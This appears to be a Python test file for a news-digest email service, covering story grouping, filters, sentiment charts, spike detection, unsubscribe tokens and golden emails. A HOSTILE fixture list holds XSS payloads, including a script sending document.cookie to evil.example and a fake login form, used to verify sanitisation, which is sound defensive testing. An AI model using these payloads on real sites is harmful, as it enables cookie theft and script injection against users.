"""Digest content (pure): entries, filters, importance, actor panel, charts, spikes, tokens,
hostile feed content, and golden files of the rendered email.

Regenerate the golden files after an intended change with
``NEWSMON_UPDATE_GOLDEN=1 .venv/bin/python -m pytest tests/test_digest_content.py`` and
review the diff.
"""

from __future__ import annotations

import io
import os
import random
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from feeds.digest.chart import CHART_HEIGHT, CHART_WIDTH, render_trend_png
from feeds.digest.compose import compose_digest
from feeds.digest.panel import actor_panel, daily_series
from feeds.digest.render import render_email
from feeds.digest.sanitize import clean_body, plain_text, safe_link
from feeds.digest.select import build_entries, sectioned
from feeds.digest.spikes import SpikeSettings, binomial_tail, detect_spikes, poisson_tail
from feeds.digest.unsubscribe import (
    UnsubscribeConfig,
    check_secret,
    make_token,
    read_token,
    unsubscribe_headers,
)
from feeds.errors import ConfigError, InvalidInput
from feeds.models import (
    ActorMention,
    ActorSentiment,
    FeedRef,
    Period,
    StoredArticle,
    Subscription,
    SubscriptionSpec,
    TopicScore,
)
from feeds.usecases.deliver import inline_as_data_uris
from tests.test_digest import Tags

GOLDEN = Path(__file__).parent / "golden"
T0 = datetime(2026, 11, 23, 8, 0, tzinfo=UTC)
PERIOD = Period("daily:2026-11-24", T0, T0 + timedelta(days=1))
WIRE = FeedRef(1, "https://wire.example/rss", "Harbour Wire")
COURIER = FeedRef(2, "https://www.northern-courier.example/feed", "Northern Courier")
POST = FeedRef(3, "https://meridian-post.example/atom.xml", None)
POLITICS = TopicScore("medtop:11000000", "politics", 0.8)
CONFLICT = TopicScore("medtop:16000000", "conflict, war and peace", 0.9)
ARCTIC = TopicScore("user:arctic", "arctic", 1.0)


def actor(name: str, sentiment: str, score: float, evidence: str = "") -> ActorSentiment:
    return ActorSentiment(
        name,
        "country",
        sentiment,
        score,  # type: ignore[arg-type]
        (evidence,) if evidence else (),
        1,
    )


def art(id: int, hours: float, **kw: Any) -> StoredArticle:
    base: dict[str, Any] = {
        "id": id,
        "url": f"https://wire.example/news/{id}",
        "title": f"Headline {id}",
        "published": T0 + timedelta(hours=hours),
        "first_seen": T0 + timedelta(hours=hours),
        "summary": f"Summary {id}.",
        "feeds": (WIRE,),
        "analyzed": True,
    }
    base.update(kw)
    return StoredArticle(**base)


def sub(**kw: Any) -> Subscription:
    spec: dict[str, Any] = {"name": "Desk", "emails": ("desk@newsmon.example",)}
    spec.update(kw)
    return Subscription(3, SubscriptionSpec(**spec), False, T0)


# One story carried by three outlets (story 100), one with a duplicate, some singles.
CORPUS = [
    art(
        1,
        2,
        story_id=100,
        topics=(CONFLICT,),
        title="Talks collapse in Geneva",
        summary="Negotiators left without a deal after a night of talks.",
        actors=(actor("Russia", "negative", -0.6, "Russia walked out of the talks."),),
    ),
    art(
        2,
        3,
        story_id=100,
        feeds=(COURIER,),
        url="https://northern-courier.example/a/2",
        title="Geneva talks end without deal",
        topics=(CONFLICT,),
        actors=(actor("Russia", "negative", -0.4),),
    ),
    art(
        3,
        4,
        story_id=100,
        feeds=(POST,),
        url="https://meridian-post.example/3",
        title="No deal in Geneva",
        topics=(CONFLICT,),
        actors=(),
    ),
    art(
        4,
        20,
        topics=(POLITICS, ARCTIC),
        title="Arctic council meets",
        actors=(
            actor("Norway", "positive", 0.5, "Norway welcomed the new agreement."),
            actor("Russia", "neutral", 0.0),
        ),
    ),
    art(
        5,
        21,
        duplicate_of=4,
        feeds=(COURIER,),
        title="Arctic council meets (copy)",
        topics=(POLITICS,),
    ),
    art(6, 10, title="Harvest festival opens", topics=()),
    art(
        7,
        23,
        topics=(POLITICS,),
        title="Russia praised for grain deal",
        actors=(actor("Russia", "positive", 0.6, "The grain deal with Russia was welcomed."),),
    ),
]


def test_one_entry_per_story_with_the_other_outlets() -> None:
    entries = build_entries(CORPUS, sub().spec, PERIOD)
    assert [s.lead.id for s in entries] == [1, 4, 7, 6]
    geneva = entries[0]
    assert [a.id for a in geneva.members] == [1, 2, 3]
    assert geneva.outlets == ("Harbour Wire", "Northern Courier", "meridian-post.example")
    arctic = next(s for s in entries if s.lead.id == 4)
    assert [a.id for a in arctic.members] == [4, 5]  # the duplicate joined its original


def test_importance_breadth_then_watched_actors_then_recency() -> None:
    # Unwatched: three outlets (1) > two (4) > one, the newer first (7 before 6).
    everything = build_entries(CORPUS, sub().spec, PERIOD)
    assert [s.importance for s in everything] == sorted(
        (s.importance for s in everything), reverse=True
    )
    assert [s.lead.id for s in everything] == [1, 4, 7, 6]
    # Watching Russia: 7 (one outlet, Russia) overtakes 6, and 4 (two outlets, Russia too)
    # stays ahead of 7; 1 keeps the lead with three outlets and Russia.
    watched = build_entries(CORPUS, sub(actors=("Russia",)).spec, PERIOD)
    assert [s.lead.id for s in watched] == [1, 4, 7]
    assert watched[0].watched == ("Russia",)
    entries = build_entries(CORPUS, sub(actors=("Norway",)).spec, PERIOD)
    assert [s.lead.id for s in entries] == [4]
    entries = everything
    sections = [title for title, _ in sectioned(entries)]
    assert sections[-1] == "Other" and sections[0] == "Conflict, war and peace"


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"topics": ("Politics",)}, {4, 7}),
        ({"queries": ("arctic",)}, {4}),
        ({"actors": ("russia",)}, {1, 4, 7}),
        ({"actors": ("Russia",), "sentiments": ("negative",)}, {1}),
        ({"sentiments": ("positive",)}, {4, 7}),
        ({"outlets": ("northern-courier.example",)}, {1, 4}),  # www. prefix matches
        ({"outlets": ("Meridian-Post.example",)}, {1}),  # title-less feed: its host
        ({"outlets": ("2",)}, {1, 4}),
        ({"topics": ("politics",), "actors": ("Norway",)}, {4}),
    ],
)
def test_filters(filters: dict[str, Any], expected: set[int]) -> None:
    entries = build_entries(CORPUS, sub(**filters).spec, PERIOD)
    # Entries named by their first article (the lead is the passing article).
    assert {min(a.id for a in s.members) for s in entries} == expected


def test_actor_panel_shares_change_and_evidence() -> None:
    mentions = [
        ActorMention(i, None, "Russia", s, sc, T0 + timedelta(hours=h), ev)  # type: ignore[arg-type]
        for i, (s, sc, h, ev) in enumerate(
            [
                ("negative", -0.6, 2, ("Russia walked out.",)),
                ("negative", -0.2, 3, ()),
                ("positive", 0.6, 23, ("The deal with Russia was welcomed.",)),
                ("neutral", 0.0, -10, ()),  # previous period
            ]
        )
    ]
    panel = actor_panel("russia", mentions, PERIOD)
    assert (panel.mentions, panel.previous_mentions) == (3, 1)
    assert panel.change == pytest.approx(2.0)
    assert panel.negative == pytest.approx(2 / 3)
    assert panel.dominant == "negative"
    assert (panel.worst, panel.best) == ("Russia walked out.", "The deal with Russia was welcomed.")
    series = daily_series("Russia", mentions, PERIOD.end, PERIOD_TZ)
    assert len(series) == 30 and series[-1].day.isoformat() == "2026-11-24"
    assert sum(p.volume for p in series) == 4


PERIOD_TZ = __import__("zoneinfo").ZoneInfo("UTC")


def test_chart_is_a_png_of_the_right_size_with_bars_and_both_sentiments() -> None:
    mentions = [
        ActorMention(
            i,
            None,
            "Russia",
            "negative" if i % 3 else "positive",
            -0.5 if i % 3 else 0.5,
            T0 - timedelta(days=i % 20, hours=1),
        )
        for i in range(60)
    ]
    png = render_trend_png(daily_series("Russia", mentions, PERIOD.end, PERIOD_TZ))
    assert png == render_trend_png(daily_series("Russia", mentions, PERIOD.end, PERIOD_TZ))
    image = Image.open(io.BytesIO(png)).convert("RGB")
    assert image.size == (CHART_WIDTH * 2, CHART_HEIGHT * 2)
    colours = {c for _, c in image.getcolors(maxcolors=1 << 16) or []}
    assert (179, 190, 209) in colours  # volume bars
    assert (196, 50, 35) in colours and (3, 140, 80) in colours  # negative and positive dots


# --------------------------------------------------------------------------- spikes


def mentions_series(hourly: list[tuple[int, int]], end: datetime) -> list[ActorMention]:
    """(articles, of which negative) per hour, the last entry being the hour before ``end``."""
    out: list[ActorMention] = []
    n = 0
    for offset, (count, negative) in enumerate(reversed(hourly), 1):
        hour = end - timedelta(hours=offset)
        for k in range(count):
            n += 1
            neg = k < negative
            out.append(
                ActorMention(
                    n,
                    None,
                    "Russia",
                    "negative" if neg else "neutral",
                    -0.5 if neg else 0.0,
                    hour + timedelta(minutes=k),
                )
            )
    return out


def baseline(hours: int, rate: float, negative: float, seed: int) -> list[tuple[int, int]]:
    rng = random.Random(seed)
    series = []
    for _ in range(hours):
        count = sum(1 for _ in range(10) if rng.random() < rate / 10)
        series.append((count, sum(1 for _ in range(count) if rng.random() < negative)))
    return series


END = datetime(2026, 11, 20, 0, 0, tzinfo=UTC)


def test_poisson_and_binomial_tails() -> None:
    assert poisson_tail(0, 2.0) == 1.0
    assert poisson_tail(1, 2.0) == pytest.approx(1 - 2.718281828**-2, rel=1e-6)
    assert poisson_tail(15, 1.0) < 1e-10
    assert binomial_tail(3, 3, 0.5) == pytest.approx(0.125)
    assert binomial_tail(0, 5, 0.2) == 1.0 and binomial_tail(6, 5, 0.2) == 0.0


def test_noise_alone_never_spikes() -> None:
    cfg = SpikeSettings()
    total = 24 * 20 + 72
    series = baseline(total, 0.6, 0.2, seed=3)
    mentions = mentions_series(series, END)
    found = [
        s
        for h in range(0, 72, 2)
        for s in detect_spikes("Russia", mentions, END - timedelta(hours=h), cfg)
    ]
    assert found == []


def test_a_volume_burst_is_one_spike_however_often_it_is_checked() -> None:
    quiet = baseline(24 * 16, 0.3, 0.2, seed=5)
    burst = [(6, 1)] * 4  # 24 articles in four hours against ~0.3 an hour
    after = baseline(20, 0.3, 0.2, seed=6)
    series = quiet + burst + after
    mentions = mentions_series(series, END)
    keys = set()
    reported_hours = []
    for minutes in range(0, 30 * 60, 10):  # check every 10 minutes across 30 hours
        now = END - timedelta(hours=30) + timedelta(minutes=minutes)
        spikes = detect_spikes("Russia", [m for m in mentions if m.first_seen < now], now)
        for spike in spikes:
            assert spike.kind == "volume"
            keys.add(spike.key)
            reported_hours.append(now)
    assert len(keys) == 1
    [key] = keys
    assert key.startswith("spike:volume:russia-") and len(key) <= 64
    # Reported from the burst's first hours until the window has moved past it (4 h of
    # burst + 6 h while the window still holds it + 6 h of grace at most).
    assert reported_hours and (max(reported_hours) - min(reported_hours)) < timedelta(hours=18)


def test_a_jump_in_negative_share_is_a_spike_of_its_own() -> None:
    steady = baseline(24 * 16, 1.5, 0.1, seed=9)
    turn = [(2, 2)] * 5  # the same volume, all negative, for five hours
    mentions = mentions_series(steady + turn, END)
    spikes = detect_spikes("Russia", mentions, END)
    kinds = {s.kind for s in spikes}
    assert "negative" in kinds
    negative = next(s for s in spikes if s.kind == "negative")
    assert negative.negative_share > 0.7 and negative.baseline_negative_share < 0.2
    # One hour later it is the same spike.
    later = detect_spikes("Russia", mentions, END + timedelta(minutes=50))
    assert negative.key in {s.key for s in later}


def test_a_new_actor_does_not_spike_on_a_handful_of_articles() -> None:
    mentions = mentions_series([(0, 0)] * 400 + [(1, 1), (1, 0), (1, 1)], END)
    assert detect_spikes("Russia", mentions, END) == []


# --------------------------------------------------------------------------- unsubscribe


def test_tokens_round_trip_and_resist_tampering() -> None:
    secret = "k3y-for-tests-0123456789"
    token = make_token(secret, 42, "ann@desk.example")
    assert read_token(secret, token) == (42, "ann@desk.example")
    head, sub_id, address, mac = token.split(".")
    for bad in (
        f"{head}.43.{address}.{mac}",
        token[:-2] + "AA",
        "v1.1.x",
        "garbage",
        f"{head}.{sub_id}.{address}.{mac}==",
    ):
        with pytest.raises(InvalidInput):
            read_token(secret, bad)
    with pytest.raises(InvalidInput):
        read_token("another-secret-0123456789", token)


@pytest.mark.parametrize("secret", ["", "  ", "short", "changeme", "x" * 40, "secret"])
def test_placeholder_secrets_are_refused(secret: str) -> None:
    with pytest.raises(ConfigError):
        check_secret(secret)


def test_unsubscribe_headers() -> None:
    both = unsubscribe_headers(
        UnsubscribeConfig("s", "https://news.example/nm/", "unsub@news.example"), "T"
    )
    assert both["List-Unsubscribe"] == (
        "<https://news.example/nm/unsubscribe/T>, "
        "<mailto:unsub@news.example?subject=unsubscribe%20T>"
    )
    assert both["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    mail_only = unsubscribe_headers(UnsubscribeConfig("s", None, "unsub@news.example"), "T")
    assert "List-Unsubscribe-Post" not in mail_only  # RFC 8058 needs an https URI
    assert unsubscribe_headers(UnsubscribeConfig("s"), "T") == {}
    with pytest.raises(ConfigError):
        unsubscribe_headers(UnsubscribeConfig("s", "http://plain.example"), "T")


# --------------------------------------------------------------------------- hostile content

HOSTILE = [
    '<script>fetch("https://evil.example/?c="+document.cookie)</script>Real headline',
    '<img src=x onerror="alert(1)">Breaking',
    '<a href="javascript:alert(1)" onclick="steal()">click</a> now',
    '<form action="https://evil.example/login"><input name=password></form>Form text',
    '<iframe src="https://evil.example/frame"></iframe>Framed',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">Data image',
    '<svg onload=alert(1)><use href="data:x"/></svg>Vector',
    "<style>body{background:url(https://evil.example/t.gif)}</style>Styled",
    '"><script>alert(2)</script>',
    '<a href="vbscript:msgbox(1)">vb</a><meta http-equiv="refresh" content="0;url=https://evil.example">',
    "&lt;script&gt;alert(3)&lt;/script&gt; escaped",
]


def hostile_articles() -> list[StoredArticle]:
    out = []
    for i, payload in enumerate(HOSTILE, 1):
        out.append(
            art(
                200 + i,
                i,
                title=payload,
                summary=payload + " " + payload,
                url=[
                    "javascript:alert(1)",
                    "data:text/html,<script>alert(1)</script>",
                    " JavaScript:alert(1)",
                    "//evil.example/x",
                    "vbscript:x",
                    'https://ok.example/"onmouseover="alert(1)',
                ][i % 6],
                feeds=(FeedRef(9, "https://feed.example/rss", payload),),
                topics=(TopicScore("medtop:1", payload, 0.5),),
                actors=(actor(payload[:40], "negative", -0.5, payload),),
            )
        )
    return out


def test_hostile_feed_content_never_reaches_the_email() -> None:
    content = compose_digest(
        subscription=sub(),
        period=PERIOD,
        articles=hostile_articles(),
        generated_at=PERIOD.end,
        charts=True,
    )
    email = render_email(
        content,
        sender="n <n@newsmon.example>",
        recipient="a@b.example",
        message_id="<d@newsmon.example>",
        unsubscribe_link="https://news.example/unsubscribe/T",
    )
    html, text = email.html, email.text
    tags = Tags()
    tags.feed(html)
    assert tags.names <= {
        "html",
        "head",
        "meta",
        "title",
        "body",
        "div",
        "h1",
        "h2",
        "p",
        "span",
        "a",
        "em",
        "strong",
        "table",
        "tbody",
        "tr",
        "td",
        "img",
        "br",
    }
    assert not {a for a in tags.attributes if a.startswith("on")}
    assert all(v.startswith("cid:") for v in tags.resources)
    assert all(v.startswith("https://") for v in tags.links)
    lowered = html.lower()
    for needle in (
        "<script",
        "javascript:",
        "vbscript:",
        "data:",
        "<form",
        "<iframe",
        "<svg",
        "onerror",
        "onload",
        "onclick",
        "evil.example",
        "<input",
        "http-equiv",
        "<style",
    ):
        assert needle not in lowered, needle
    assert "Real headline" in html and "Breaking" in html
    # The text part carries no markup either (the literal "&lt;script&gt;" became text).
    for needle in ("<script", "<img", "<form", "<iframe", "javascript:", "onerror"):
        assert needle not in text.lower(), needle


def test_sanitiser_helpers() -> None:
    assert plain_text("<b>Bold</b> &amp; <script>x()</script>plain") == "Bold & plain"
    assert safe_link("https://ok.example/a?b=1") == "https://ok.example/a?b=1"
    for bad in (
        "javascript:alert(1)",
        "//x.example",
        "data:text/html,x",
        "/relative",
        "https://x.example/a b",
        'https://x.example/"x',
    ):
        assert safe_link(bad) is None
    cleaned = clean_body('<div onclick="x" style="color:red"><a href="data:x">d</a></div>')
    assert cleaned == '<div style="color:red"><a rel="noopener noreferrer">d</a></div>'


# --------------------------------------------------------------------------- golden files


def golden_email() -> tuple[str, str, str]:
    mentions = [
        ActorMention(a.id, a.story_id, x.name, x.sentiment, x.score, a.first_seen, x.evidence)
        for a in CORPUS
        for x in a.actors
    ] + [
        ActorMention(90 + d, None, "Russia", "negative", -0.3, T0 - timedelta(days=d), ())
        for d in range(1, 20, 3)
    ]
    content = compose_digest(
        subscription=sub(actors=("Russia", "Norway"), tz="Europe/Oslo"),
        period=PERIOD,
        articles=CORPUS,
        generated_at=PERIOD.end,
        mentions=mentions,
        charts=True,
        image_domain="newsmon.example",
    )
    email = render_email(
        content,
        sender="Newsmon <digests@newsmon.example>",
        recipient="desk@newsmon.example",
        message_id="<digest.3.abc@newsmon.example>",
        unsubscribe_link="https://news.example/newsmon/unsubscribe/TOKEN",
    )
    return email.subject, email.html, email.text


def check_golden(name: str, actual: str) -> None:
    path = GOLDEN / name
    if os.environ.get("NEWSMON_UPDATE_GOLDEN"):
        path.parent.mkdir(exist_ok=True)
        path.write_text(actual, encoding="utf-8")
    assert path.is_file(), f"missing golden file {path}; run with NEWSMON_UPDATE_GOLDEN=1"
    assert actual == path.read_text(encoding="utf-8"), f"{name} changed; see the module doc"


def test_golden_html_and_text() -> None:
    subject, html, text = golden_email()
    assert subject == "Daily: 3 stories — Russia mostly negative · Desk"
    check_golden("digest.html", html)
    check_golden("digest.txt", text)


def test_preview_file_embeds_the_charts() -> None:
    content = compose_digest(
        subscription=sub(actors=("Russia",)),
        period=PERIOD,
        articles=CORPUS,
        generated_at=PERIOD.end,
        charts=True,
    )
    email = render_email(
        content,
        sender="n <n@newsmon.example>",
        recipient="a@b.example",
        message_id="<d@newsmon.example>",
    )
    preview = inline_as_data_uris(email.html, email.inline_images)
    assert "cid:" not in preview
    assert re.search(r'src="data:image/png;base64,[A-Za-z0-9+/=]{100,}"', preview)


def test_recent_periods_catch_up_on_immediate_buckets_only() -> None:
    from feeds.digest.periods import recent_periods

    now = datetime(2026, 11, 24, 10, 17, tzinfo=UTC)
    immediate = SubscriptionSpec("a", ("a@b.example",), "immediate")
    keys = [
        p.key
        for p in recent_periods(
            immediate, now, catch_up=timedelta(minutes=20), since=now - timedelta(minutes=13)
        )
    ]
    assert keys == [
        "immediate:2026-11-24T10:05Z",
        "immediate:2026-11-24T10:10Z",
        "immediate:2026-11-24T10:15Z",
    ]
    daily = SubscriptionSpec("d", ("a@b.example",), "daily", at="08:00")
    assert [p.key for p in recent_periods(daily, now, catch_up=timedelta(hours=1))] == [
        "daily:2026-11-24"
    ]
    # A subscription created after the last boundary has nothing to send yet.
    assert recent_periods(daily, now, catch_up=timedelta(hours=1), since=now) == []
